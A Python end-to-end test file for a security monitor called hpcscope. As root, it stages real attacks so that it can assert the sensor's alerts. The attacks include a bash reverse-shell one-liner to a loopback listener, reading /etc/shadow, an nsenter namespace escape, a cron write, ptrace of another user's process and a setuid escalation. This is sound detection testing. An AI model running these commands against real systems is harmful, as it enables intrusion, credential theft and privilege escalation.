"""Real attacks on this machine, as root, outside any job, under hpcscope's own sensor and
through the real pipeline: ``hpcscope sensor`` (bpftrace) writes its export, ``hpcscope
serve`` tails it as ``tetragon.events_path``, the alert engine judges, ``/api/alerts``
answers. No event line is written by hand.

The attacks: ``nsenter -t 1`` from a fresh PID and mount namespace (and a real ``setns`` back
into the test's mount namespace), a binary copied to a temp directory that connects out, a
reverse shell (``bash -i >& /dev/tcp/127.0.0.2/PORT``) to a loopback listener, ``cat
/etc/shadow``, a cron file written under ``/etc/cron.d`` in a private mount namespace (a
tmpfs over it: the real ``/etc`` is untouched), ``strace`` attaching to ``nobody``'s process,
and a setuid copy of ``id`` in a temp directory run by ``nobody``. The listeners are on
``127.0.0.2``, loopback but outside the site's ``cluster_cidrs`` (the private ranges and
``127.0.0.1/32``: the machine's own loopback traffic stays inside), so their connects are
egress.

One run for the module (bpftrace compiles its ~90 probes in 5-30 s); each test asserts what
one attack raised. Needs root and bpftrace: the run fails without them, it never skips.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import orjson
import pytest
import yaml

from hpcscope.service.alerts.rules import bundled_rules_dir
from hpcscope.service.security.sensor import check_environment
from tests.support.processes import api, serve, spawn, stop, wait_for
from tests.support.servers import free_port

pytestmark = pytest.mark.e2e

NODE = "n-attack"
#: The rules the attacks raise between them.
EXPECTED = {"CE-3", "SC-2", "SC-3", "SC-8", "CE-4", "GM-3", "CE-6"}
NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
#: Where the listeners are: loopback, but outside the site's cluster (egress).
OUTSIDE = "127.0.0.2"
#: The site's cluster: the private ranges and 127.0.0.1 (the machine's own loopback traffic).
CLUSTER_CIDRS = ["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "127.0.0.1/32", "::1/128"]


@dataclass
class Run:
    """What the module's attacks left: the export's events and the alerts served."""

    base: Path
    events: list[dict[str, Any]] = field(default_factory=list)
    alerts: list[dict[str, Any]] = field(default_factory=list)
    pids: dict[str, int] = field(default_factory=dict)

    def kprobes(self, function: str) -> list[dict[str, Any]]:
        return [e["process_kprobe"] for e in self.events
                if e.get("process_kprobe", {}).get("function_name") == function]  # fmt: skip

    def execs(self, binary_suffix: str) -> list[dict[str, Any]]:
        processes = [e["process_exec"]["process"] for e in self.events if "process_exec" in e]
        return [p for p in processes if p.get("binary", "").endswith(binary_suffix)]

    def raised(self, rule_id: str, where: Callable[[dict[str, Any]], bool]) -> dict[str, Any]:
        found = [a for a in self.alerts if a["rule_id"] == rule_id and where(a)]
        assert found, f"no {rule_id} alert; alerts: " + "; ".join(
            f"{a['rule_id']} {a['severity']} {a['subject']} {a['title']}" for a in self.alerts
        )
        return found[0]


def _text(alert: dict[str, Any]) -> str:
    return orjson.dumps(alert).decode()


def _rules(directory: Path) -> Path:
    """The bundled rules with SC-3's cluster being the private ranges only."""
    shutil.copytree(bundled_rules_dir(), directory)
    path = directory / "security-events.yaml"
    document = yaml.safe_load(path.read_text())
    (sc3,) = [rule for rule in document["rules"] if rule["id"] == "SC-3"]
    sc3["lists"]["cluster_cidrs"] = CLUSTER_CIDRS
    path.write_text(yaml.safe_dump(document, sort_keys=False))
    return directory


class Listener:
    """A loopback TCP listener that says ``exit`` to whoever connects (a reverse shell
    exits) and counts the connections."""

    def __init__(self) -> None:
        self.socket = socket.create_server((OUTSIDE, 0))
        self.port = self.socket.getsockname()[1]
        self.accepted = 0
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                peer, _ = self.socket.accept()
            except OSError:
                return
            self.accepted += 1
            with peer:
                peer.settimeout(10)
                try:
                    peer.sendall(b"exit\n")
                    while peer.recv(4096):
                        pass
                except OSError:
                    pass

    def close(self) -> None:
        self.socket.close()


def _events(export: Path) -> list[dict[str, Any]]:
    return [orjson.loads(line) for line in export.read_bytes().splitlines() if line.strip()]


def _wait_live(export: Path, sensor: subprocess.Popen[bytes], log: Path) -> None:
    """Until the sensor posts a canary exec of ours (attached and translating)."""
    deadline = time.monotonic() + 180
    number = 0
    while time.monotonic() < deadline:
        if sensor.poll() is not None:
            raise AssertionError(f"hpcscope sensor exited {sensor.returncode}: {log.read_text()}")
        number += 1
        subprocess.run(["/bin/true", f"hpcscope-canary-{number}"], check=True)
        time.sleep(1.0)
        if export.exists() and b"hpcscope-canary-" in export.read_bytes():
            return
    raise AssertionError(f"the sensor posted no exec in 180 s: {log.read_text()[-2000:]}")


def _attack(run: Run, port: int, shell_port: int) -> None:
    base = run.base
    # namespace entry: nsenter into PID 1's namespaces from a fresh PID and mount namespace
    # (refused where PID 1's /proc/1/ns cannot be opened; the attempt is the alert), and a
    # setns back into the test's own mount namespace from a private one
    escape = f"exec nsenter -t 1 -m -u -n -i -p true {base.name}"  # this run's, by its marker
    subprocess.run(["unshare", "--fork", "--pid", "--mount", "sh", "-c", escape],
                   capture_output=True, timeout=30)  # fmt: skip
    subprocess.run(["unshare", "--mount", "nsenter", f"--mount=/proc/{os.getpid()}/ns/mnt",
                    "true"], check=True, timeout=30)  # fmt: skip
    # a binary copied to a temp directory, connecting out
    agent = base / "update-agent"
    shutil.copy(os.path.realpath("/usr/bin/python3"), agent)
    code = f"import socket; socket.create_connection(('{OUTSIDE}', {port}), timeout=5).close()"
    subprocess.run([str(agent), "-c", code], check=True, timeout=30)
    # a reverse shell to a loopback listener (it answers exit)
    subprocess.run(["bash", "-c", f"bash -i >& /dev/tcp/{OUTSIDE}/{shell_port} 0>&1"],
                   capture_output=True, timeout=30)  # fmt: skip
    # the host's password hashes
    subprocess.run(["cat", "/etc/shadow"], check=True, stdout=subprocess.DEVNULL, timeout=30)
    # a cron file under /etc/cron.d, in a private mount namespace over a tmpfs
    cron = "mount -t tmpfs hpcscope-sandbox /etc/cron.d && echo '* * * * * root id' > "
    subprocess.run(["unshare", "--mount", "sh", "-c", cron + "/etc/cron.d/hpcscope-attack"],
                   check=True, timeout=30)  # fmt: skip
    assert not Path("/etc/cron.d/hpcscope-attack").exists()
    # ptrace of another user's process
    victim = subprocess.Popen([*NOBODY, "sleep", "60"])
    try:
        time.sleep(0.3)
        subprocess.run(["timeout", "2", "strace", "-p", str(victim.pid), "-o", "/dev/null"],
                       capture_output=True, timeout=30)  # fmt: skip
        run.pids["victim"] = victim.pid
    finally:
        victim.kill()
        victim.wait()
    # a setuid-root copy of id in a temp directory, run by nobody: uid 0 gained
    su = base / "su"
    shutil.copy("/usr/bin/id", su)
    os.chmod(su, 0o4755)
    gained = subprocess.run([*NOBODY, str(su), "-u"], capture_output=True, text=True, timeout=30)
    assert gained.stdout.strip() == "0", gained


@pytest.fixture(scope="module")
def attacks(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
    check_environment("bpftrace")  # root, bpftrace, tracefs: fails (never skips) without
    base = Path(tempfile.mkdtemp(prefix="hps-attack-", dir="/tmp"))  # a temp dir, short paths
    os.chmod(base, 0o755)  # nobody runs the setuid copy from it
    logs = tmp_path_factory.mktemp("attack-logs")
    export = base / "sensor.log"
    env = {
        **os.environ,
        "HPCSCOPE_RULES_DIR": str(_rules(base / "rules")),
        "HPCSCOPE_TETRAGON__EVENTS_PATH": str(export),
        "HPCSCOPE_SCRAPE_INTERVAL_SECONDS": "1",
    }
    run = Run(base)
    sensor = spawn(["sensor", "--output", str(export), "--node", NODE], logs / "sensor.log",
                   env=env)  # fmt: skip
    server = None
    egress, shell = Listener(), Listener()
    try:
        server, url = serve(logs / "store.duckdb", free_port(), logs / "serve.log", env=env)
        _wait_live(export, sensor, logs / "sensor.log")
        run.pids["shell port"] = shell.port
        _attack(run, egress.port, shell.port)
        assert (egress.accepted, shell.accepted) == (1, 1)

        def alerted() -> list[dict[str, Any]] | None:
            found: list[dict[str, Any]] = api(url, "/api/alerts")["alerts"]
            ours = [a for a in found if a["node"] == NODE]
            return ours if {a["rule_id"] for a in ours} >= EXPECTED else None

        try:
            wait_for(alerted, "the attacks' alerts", timeout=60)
        except AssertionError:
            pass  # each test says what is missing
        time.sleep(3)  # the last attacks' events: one more collector cycle
        run.alerts = [a for a in api(url, "/api/alerts")["alerts"] if a["node"] == NODE]
        run.events = _events(export)
        shutil.copy(export, logs / "sensor-export.log")  # kept with the run's logs
        yield run
    finally:
        egress.close()
        shell.close()
        if server is not None:
            stop(server)
        stop(sensor)
        shutil.rmtree(base, ignore_errors=True)


def test_nsenter_into_pid_1s_namespaces(attacks: Run) -> None:
    # the sensor sees every process on the kernel (another run's attacks too): this run's
    # nsenter -t 1 is the one with its marker (refused: its attempt is the alert); the real
    # setns is the second nsenter's, into this test process's own mount namespace
    command = f"-t 1 -m -u -n -i -p true {attacks.base.name}"
    assert [p for p in attacks.execs("/nsenter") if p["arguments"] == command]
    back = f"--mount=/proc/{os.getpid()}/ns/mnt true"
    (nsenter,) = [p for p in attacks.execs("/nsenter") if p["arguments"] == back]
    entered = [k for k in attacks.kprobes("__x64_sys_setns")
               if k["process"]["exec_id"] == nsenter["exec_id"]]  # fmt: skip
    assert [k["args"][1] for k in entered] == [{"int_arg": 0x20000}]  # CLONE_NEWNS
    assert entered[0]["policy_name"] == "hpcscope-namespaces"
    alert = attacks.raised("CE-3", lambda a: command in _text(a))
    assert (alert["severity"], alert["subject"], alert["job_id"]) == ("HIGH", "nsenter", None)


def test_a_binary_copied_to_a_temp_directory_connects_out(attacks: Run) -> None:
    agent = str(attacks.base / "update-agent")
    (execed,) = [p for p in attacks.execs("/update-agent") if p["binary"] == agent]
    (connect,) = [k for k in attacks.kprobes("tcp_connect") if k["process"]["binary"] == agent]
    assert connect["process"]["exec_id"] == execed["exec_id"]  # chained to its exec
    assert connect["args"][0]["sock_arg"]["daddr"] == OUTSIDE
    dropped = attacks.raised(
        "SC-2", lambda a: a["subject"] == agent and a["severity"] == "CRITICAL"
    )
    assert dropped["job_id"] is None
    attacks.raised("SC-3", lambda a: agent in _text(a))


def test_a_reverse_shell_to_a_loopback_listener(attacks: Run) -> None:
    tcp = f"/dev/tcp/{OUTSIDE}/{attacks.pids['shell port']} "
    (shell,) = [
        p
        for p in attacks.execs("/bash")
        if p["arguments"].startswith("-c ") and tcp in p["arguments"]
    ]
    (connect,) = [k for k in attacks.kprobes("tcp_connect")
                  if k["args"][0]["sock_arg"]["dport"] == attacks.pids["shell port"]]  # fmt: skip
    process = connect["process"]
    assert process["binary"].endswith("/bash")
    # bash forks for the redirection: its child connects (a clone of the shell's exec)
    assert shell["exec_id"] in (process["exec_id"], process.get("parent_exec_id"))
    alert = attacks.raised("SC-8", lambda a: f"{OUTSIDE}:{attacks.pids['shell port']}" in _text(a))
    assert (alert["severity"], alert["subject"]) == ("CRITICAL", "bash")  # outside: CRITICAL


def test_reading_etc_shadow(attacks: Run) -> None:
    reads = [k for k in attacks.kprobes("security_file_open")
             if k["args"][0]["file_arg"]["path"] == "/etc/shadow"
             and k["process"]["binary"].endswith("/cat")]  # fmt: skip
    assert reads and reads[0]["policy_name"] == "hpcscope-sensitive-files"
    alert = attacks.raised("CE-4", lambda a: a["subject"] == "/etc/shadow" and "cat" in _text(a))
    assert alert["severity"] == "HIGH"


def test_a_cron_file_written_under_a_sandboxed_etc(attacks: Run) -> None:
    path = "/etc/cron.d/hpcscope-attack"
    writes = [k for k in attacks.kprobes("security_file_permission")
              if k["args"][0]["file_arg"]["path"] == path]  # fmt: skip
    assert writes and writes[0]["args"][1] == {"int_arg": 2}  # MAY_WRITE
    assert writes[0]["args"][2] == {"size_arg": str(len("* * * * * root id\n"))}
    alert = attacks.raised("CE-4", lambda a: a["subject"] == path)
    assert alert["severity"] == "HIGH" and "write of" in _text(alert)


def test_ptrace_of_another_users_process(attacks: Run) -> None:
    victim = attacks.pids["victim"]
    traced = [k for k in attacks.kprobes("__x64_sys_ptrace") if k["args"][1]["int_arg"] == victim]
    assert traced and traced[0]["process"]["binary"].endswith("/strace")
    alert = attacks.raised("GM-3", lambda a: "strace" in _text(a))
    assert alert["severity"] == "HIGH"


def test_a_setuid_binary_in_a_temp_directory_gains_uid_0(attacks: Run) -> None:
    su = str(attacks.base / "su")
    (creds,) = [k for k in attacks.kprobes("commit_creds") if k["process"]["binary"] == su]
    assert creds["process"]["uid"] == 65534
    assert creds["args"] == [{"process_credentials_arg": {"uid": 65534, "euid": 0}}]
    assert creds["policy_name"] == "hpcscope-credentials"
    alert = attacks.raised("CE-6", lambda a: a["subject"] == su)
    assert alert["severity"] == "CRITICAL"  # from a temp directory
